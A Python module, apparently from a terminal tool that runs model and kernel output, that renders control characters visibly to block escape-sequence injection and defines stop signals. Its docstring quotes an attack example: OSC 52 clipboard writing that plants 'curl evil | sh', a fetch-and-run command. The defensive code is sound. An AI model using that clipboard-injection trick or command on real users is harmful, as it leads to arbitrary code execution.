"""Text from a model or a kernel is shown on the user's terminal, never obeyed by it; and the
signals that stop a run from outside (``STOP_SIGNALS``).

A cell's ``print("\\x1b]0;...\\x07\\x1b]52;c;...")`` set the terminal's title and wrote its
clipboard (the next paste: ``curl evil | sh``), and cursor codes broke the screen. Rich and
Textual remove only BEL, BS, VT, FF and CR from text they draw; ``show_controls`` makes them
show every other control character as its visible picture (ESC as ␛), in one place each: the
table each library translates every text it draws with.
"""

from __future__ import annotations

import signal
from typing import Any

STOP_SIGNALS = {
    signal.SIGINT: "interrupted by Ctrl-C",
    signal.SIGTERM: "terminated",
    signal.SIGHUP: "hung up (the terminal closed)",
}
"""Each stops a run cleanly, headless or in the TUI (kernels down, run_finished written, the
terminal given back as it was); the process exits with 128 + the signal."""

VISIBLE = (
    {code: chr(0x2400 + code) for code in range(32) if chr(code) not in "\t\n"}
    | {0x7F: "\u2421"}
    | {code: "\ufffd" for code in range(0x80, 0xA0)}
)
"""Each control character (C0 but tab and newline; DEL; C1, whose CSI starts a sequence on
its own) -> a character that only shows. The libraries keep dropping those they drop."""


def visible(text: str) -> str:
    """``text`` with its control characters shown, not sent (for a line the CLI prints)."""
    return text.translate(VISIBLE)


def show_controls(table: dict[int, Any] | None = None) -> None:
    """Make a library's drawing show control characters: Rich's, or the translate ``table``
    of another (the TUI passes Textual's; this module imports no Textual). Idempotent."""
    if table is None:
        import rich.control

        table = rich.control._CONTROL_STRIP_TRANSLATE  # typed dict[int, None]: None, dropped
    shows: dict[int, Any] = table
    for code, shown in VISIBLE.items():
        shows.setdefault(code, shown)
